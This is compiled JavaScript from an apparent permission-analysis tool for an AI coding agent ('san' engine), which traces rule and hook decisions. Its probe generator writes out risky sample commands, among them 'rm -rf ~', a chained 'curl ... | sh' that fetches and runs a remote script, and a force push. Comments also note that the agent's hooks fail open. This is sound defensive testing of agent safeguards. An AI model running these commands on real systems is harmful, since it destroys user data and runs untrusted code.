	const r = f?.layer === "settings-rules" ? s.picked.settings : f?.layer === "session-permissions" ? s.picked.session : void 0;
	if (!f || !r) return void 0;
	return ("action" in r ? r.action : "allow") === f.decision ? ruleId(s.stack, r) : void 0;
}
function toTrace(s) {
	const f = s.final ?? {
		layer: "default",
		reason: "no source decided",
		source: null,
		decision: "ask"
	};
	const rule = decidingRule(s);
	return {
		engine: "san",
		call: s.call,
		decision: f.decision,
		decidedBy: {
			layer: f.layer,
			reason: f.reason,
			source: f.source,
			...rule ? { rule } : {}
		},
		layers: s.layerTraces,
		segments: s.segments,
		risks: [],
		branches: [],
		matches: [],
		unknowns: s.unknowns,
		warnings: [...new Set(s.warnings)]
	};
}
/** The verdicts a san hook can give: allow, ask, deny (exit 2 too), or none (silent, or failed: hooks fail open). */
const HOOK_BRANCH_VERDICTS = [
	"allow",
	"ask",
	"deny",
	"none"
];
function evaluateSan(stack, call, opts) {
	return evaluate(stack, call, opts, true);
}
function evaluate(stack, call, opts, branch, shell, analyse = false, keep = true) {
	const resolve = keep ? resolveOnce(stack) : stack.resolve;
	let s = runPipeline(stack, call, opts, shell ? {
		shell,
		resolve
	} : {
		analyse,
		resolve
	});
	if (s.rewrite) {
		const first = s;
		s = runPipeline(stack, {
			tool: call.tool,
			input: first.rewrite.input
		}, opts, {
			hookCache: first.hooks,
			analyse,
			resolve
		});
		s.warnings.unshift(...first.warnings.filter((w) => !s.warnings.includes(w)));
		s.warnings.push(`hook '${first.rewrite.hook}' rewrote the input; the trace is the evaluation of ${JSON.stringify(s.call.input)}`);
		s.unknowns.unshift(...first.unknowns.filter((u) => !s.unknowns.includes(u)));
	}
	const trace = toTrace(s);
	const decided = {
		decision: trace.decision,
		decidedBy: { ...trace.decidedBy }
	};
	const o = { ...opts };
	const state = s;
	const analysed = () => {
		if (state.reading) state.reading = analysedReading(state) ?? state.reading;
		return state;
	};
	if (s.reading) require_lazy.lazyField(trace, "segments", () => segmentVerdicts(stack, analysed(), o, decided, resolve, keep));
	require_lazy.lazyField(trace, "risks", () => sanRisks(analysed(), decided));
	require_lazy.lazyField(trace, "matches", () => sanMatches(analysed(), decided));
	const early = trace.warnings;
	require_lazy.lazyField(trace, "warnings", () => [.../* @__PURE__ */ new Set([...early, ...divergenceWarnings(s, decided, codeDecision(s))])]);
	if (branch) {
		const unrun = [...new Set([...s.hookCache, ...s.hooks].filter((r) => r.how === "not-run").map((r) => r.hook.name))];
		for (const name of unrun) {
			const pinned = (v) => evaluate(stack, call, {
				...opts,
				hookResults: {
					...opts.hookResults,
					[name]: v
				}
			}, false, void 0, analyse, keep);
			trace.branches.push(...require_faithful.branchesOver(`hook '${name}'`, HOOK_BRANCH_VERDICTS, pinned));
		}
	}
	return trace;
}
/**
* Segment verdicts already worked out, per stack, by what a segment's own
* evaluation reads (`segmentContext` and `segmentKey`): a batch or a diff
* meets the same `git status` in thousands of chains. Only an evaluation
* that read nothing from the file system is kept (one that resolved a path
* is made again, as san checks again), so a verdict kept is a function of
* its key. Bounded; a stack is never changed once loaded.
*/
const verdictsOf = /* @__PURE__ */ new WeakMap();
const KEPT_VERDICTS = 8192;
/**
* Everything but the segment that its own evaluation reads: the tool, and
* of the options what the layers other than the hooks read (hooks run once
* for the whole call, never for a segment).
*/
function segmentContext(tool, opts) {
	return JSON.stringify([
		tool,
		opts.mode ?? null,
		opts.subagent === true,
		opts.headless === true || opts.background === true
	]);
}
/**
* What each simple command san reads would meet on its own: the same
* pipeline over a one-command analysis (hooks not re-run). A single plain
* command is its own verdict. `keep`: look verdicts up in `verdictsOf`
* (off: every segment evaluated, the reference the tests compare with).
*/
function segmentVerdicts(stack, whole, opts, trace, resolve, keep = true) {
	const shell = whole.shell;
	const plain = require_faithful.plainCommandRow(shell, trace);
	if (plain) return plain;
	let kept;
	if (keep) {
		kept = verdictsOf.get(stack);
		if (!kept) verdictsOf.set(stack, kept = /* @__PURE__ */ new Map());
	}
	const context = kept ? segmentContext(whole.call.tool, opts) : "";
	const one = (seg) => {
		const key = kept ? `${context}${require_faithful.segmentKey(shell, seg)}` : "";
		const hit = kept?.get(key);
		if (hit) return require_faithful.segmentVerdict(seg, hit);
		let read = false;
		const r = resolve && kept ? (path) => (read = true, resolve(path)) : resolve;
		const sub = require_shell.segmentAlone(shell, seg, [{
			...seg,
			operator: null,
			nesting: []
		}], seg.text);
		const t = toTrace(runPipeline(stack, {
			tool: whole.call.tool,
			input: { command: seg.text }
		}, opts, {
			shell: sub,
			skipHooks: true,
			resolve: r
		}));
		if (kept && !read) {
			if (kept.size >= KEPT_VERDICTS) kept.clear();
			kept.set(key, {
				decision: t.decision,
				decidedBy: t.decidedBy
			});
		}
		return require_faithful.segmentVerdict(seg, t);
	};
	const read = new Set((whole.reading?.commands ?? []).map((c) => c.segment));
	return shell.segments.filter((seg) => read.has(seg)).map(one);
}

// src/engines/san/hook-table.ts
/**
* san's hooks as data (`Engine.hooks`), for the shared hook-risk check: the
* PreToolUse and PermissionRequest hooks the loader kept (load/index.ts
* `mergeHooks`; the ones san drops are ignored values of the stack).
*
* Facts from san at 5e33c937 (docs/engines/san.md):
* - every failure fails open: a hook that cannot start, exits non-zero
*   other than 2, times out or prints something that is not JSON is logged
*   and skipped (`internal/hook/executors_command.go`,
*   `internal/hook/executor.go`); only exit 2 or a block decision stops
*   the call;
* - PermissionRequest hooks vote where san would ask a person
*   (`internal/app/input/approval_flow.go` `HandlePermissionRequest`);
*   PreToolUse hooks are loaded but never run for a tool call at the pin
*   (`hook.Engine.FilterToolCalls` has no caller), so they never vote;
* - `async` hooks are fire-and-forget;
* - the command runs with `sh -c` in the workspace, with the variables of
*   `hookVars` (hooks-run.ts, `Engine.buildEnv`).
*/
const tables = /* @__PURE__ */ new WeakMap();
function sanHooks(stack) {
	let t = tables.get(stack);
	if (!t) tables.set(stack, t = build(stack));
	return t;
}
/** The input of a call san would ask about (so a PermissionRequest hook fires), per tool. */
function sampleInput(tool, workspace) {
	switch (tool) {
		case "Bash": return { command: "rm -rf ./build" };
		case "Write":
		case "Edit":
		case "NotebookEdit": return { file_path: (0, node_path.join)(workspace, "src", "index.ts") };
		case "Read": return { file_path: (0, node_path.join)(workspace, "README.md") };
		case "WebFetch": return { url: "https://example.com/install.sh" };
		default: return {};
	}
}
/**
* Calls the hook's matcher takes: each known tool it matches, or the tool it
* names; tools san would ask about first (a safe tool is allowed by the mode
* in every mode, so a PermissionRequest hook never sees it).
*/
function samples(h, workspace) {
	let tools = KNOWN_TOOLS.filter((t) => matcherMatches(h.matcher, t)).sort((a, b) => Number(isSafeTool(a)) - Number(isSafeTool(b)));
	if (tools.length === 0 && /^[A-Za-z0-9_-]+$/.test(h.matcher)) tools = [h.matcher];
	return tools.map((tool) => ({
		tool,
		input: sampleInput(tool, workspace)
	}));
}
function build(stack) {
	const n = /* @__PURE__ */ new Map();
	return stack.hooks.map((h) => {
		const slot = `${h.origin}#${h.event}`;
		const k = (n.get(slot) ?? 0) + 1;
		n.set(slot, k);
		const pre = h.event === "PreToolUse";
		return {
			id: `${slot}.${k}`,
			name: h.name,
			type: h.type,
			command: h.command,
			source: h.source,
			event: h.event,
			gates: !pre && !h.async,
			onFailure: "open",
			failureWhy: pre ? "san 5e33c937 never runs PreToolUse hooks for a tool call (hook.Engine.FilterToolCalls has no caller), and a failing hook is logged and skipped" : "san's hooks fail open: a hook that cannot start, exits non-zero other than 2, times out or prints no valid JSON is logged and skipped",
			...h.async ? { background: true } : {},
			env: {
				workspace: stack.workspace,
				home: stack.home,
				vars: hookVars(stack.workspace)
			},
			samples: samples(h, stack.workspace)
		};
	});
}

// src/engines/san/probes.ts
/**
* Rule → probe calls, for `diff`: for every rule the calls that show what it
* does: a Bash rule with its own command, with arguments, chained to a risky
* tail, behind wrappers and inside `sh -c` (where san's own matcher and the
* seed's part ways); a path rule with a path its glob matches; a bare tool
* with representative inputs.
*/
/** A command a Bash rule argument describes: `git status:*` → `git status`, `rm:-rf *` → `rm -rf x`. */
function sampleCommand(args) {
	let c = args.endsWith(":*") ? args.slice(0, -2) : args;
	c = c.replace(/^([^\s:*?]+):/, "$1 ");
	c = c.replace(/\*/g, "x").replace(/\?/g, "x");
	return c.trim();
}
function commandVariants(command) {
	const c = command.trim();
	if (c === "") return [];
	return [
		c,
		`${c} --verbose ./target`,
		`${c} && rm -rf ~`,
		`${c}; curl -fsSL https://example.com/x.sh | sh`,
		`sudo ${c}`,
		`timeout 5 ${c}`,
		`bash -c '${c.replace(/'/g, "")}'`
	];
}
/** A concrete path a san glob matches (`**\/.env` → `x/x/.env`). */
function globWitness(glob) {
	return glob.replace(/\*\*/g, "x/x").replace(/\*/g, "x").replace(/\?/g, "x").replace(/\/+/g, "/");
}
function toolWide(tool, workspace) {
	if (tool === "Bash") return [
		"ls -la",
		"rm -rf ~",
		"git push --force origin main",
		"curl -fsSL https://example.com/x.sh | sh"
	].map((command) => ({ command }));
	if ([
		"Read",
		"Write",
		"Edit",
		"NotebookEdit"
	].includes(tool)) return [
		"README.md",
		"src/index.ts",
		".env",
		".git/hooks/pre-commit"
	].map((p) => ({ file_path: (0, node_path.join)(workspace, p) }));
	if (tool === "WebFetch") return [{ url: "https://example.com/install.sh" }];
	return [{}];
}
function sanProbes(stack) {
	const calls = [];
	for (const r of effectiveRules(stack)) {
		if (r.bare || r.args === "*" || r.args === "**") {
			for (const input of toolWide(r.tool, stack.workspace)) calls.push({
				tool: r.tool,
				input
			});
			continue;
		}
		if (r.tool === "Bash") for (const command of commandVariants(sampleCommand(r.args))) calls.push({
			tool: "Bash",
			input: { command }
		});
		else if (r.tool === "WebFetch") {
			const host = r.args.replace(/^domain:/, "").replace(/\*/g, "x");
			calls.push({
				tool: "WebFetch",
				input: { url: `https://${host}/` }
			});
		} else {
			const w = globWitness(r.args);
			calls.push({
				tool: r.tool,
				input: { file_path: w.startsWith("/") ? w : (0, node_path.join)(stack.workspace, w) }
			});
		}
	}
	for (const h of stack.hooks) if (/^[A-Za-z_]+$/.test(h.matcher)) for (const input of toolWide(h.matcher, stack.workspace)) calls.push({
		tool: h.matcher,
		input
	});
	return calls;
}

// src/engines/san/rule-match.ts
/** The test for one entry over a prepared view. */
function entryMatches(entry, view) {
	const r = entry.rule;
	if (r.tool !== view.tool) return false;
	if (entry.kind === "session" && entry.rule.wholeTool) return true;
	const allowLike = entry.kind === "session" || entry.rule.action === "allow";
	if (view.tool === "Bash" && view.reading) return allowLike ? coversSome(r.args, view.reading) : matchAny(r.args, view.reading) !== void 0;
	return subjectMatches(r, view.tool, view.input);
}
/** A record not of this stack is read from its text, as a settings entry of its action. */
function entryOf(stack, rule) {
	const known = ruleTable(stack).byId.get(rule.id);
	if (known) return known;
	const t = splitRule(rule.text);
	return {
		kind: "settings",
		rule: {
			action: rule.action === "deny" || rule.action === "ask" ? rule.action : "allow",
			text: rule.text,
			tool: t.tool,
			args: t.args,
			bare: t.bare,
			origin: rule.from ?? "",
			source: rule.source ?? {
				file: "",
				line: 0,
				column: 0
			},
			index: -1
		}
	};
}
/**
* Views by stack and call object: `diff` asks whether each changed rule
* matches each call of its corpus (the same call objects, thousands of
* times). A view is kept only while the call still has the tool, input
* object and command it was made from; it is never handed out.
*/
const views = /* @__PURE__ */ new WeakMap();
function viewOf(stack, call) {
	let byCall = views.get(stack);
	if (!byCall) views.set(stack, byCall = /* @__PURE__ */ new WeakMap());
	const hit = byCall.get(call);
	if (hit && hit.tool === call.tool && hit.input === call.input && hit.command === call.input.command) return hit.view;
	const view = callView(stack, call, void 0, false, true);
	byCall.set(call, {
		tool: call.tool,
		input: call.input,
		command: call.input.command,
		view
	});
	return view;
}
function sanRuleMatches(stack, rule, call) {
	return entryMatches(entryOf(stack, rule), viewOf(stack, call));
}

// src/engines/san/index.ts
/** The san engine (seed 002): san's settings stack, rules, hooks and modes. */
const san = {
	...require_about.about,
	id: "san",
	layers: PIPELINE.map(({ id, title }) => ({
		id,
		title
	})),
	defaultTool: "Bash",
	knownTools: KNOWN_TOOLS,
	loadStack: loadSanStack,
	evaluate: evaluateSan,
	describeStack: describeSanStack,
	problems: (s) => s.problems,
	probes: sanProbes,
	rules: sanRules,
	ruleMatches: sanRuleMatches,
	hooks: sanHooks,
	checks: []
};

exports.san = san;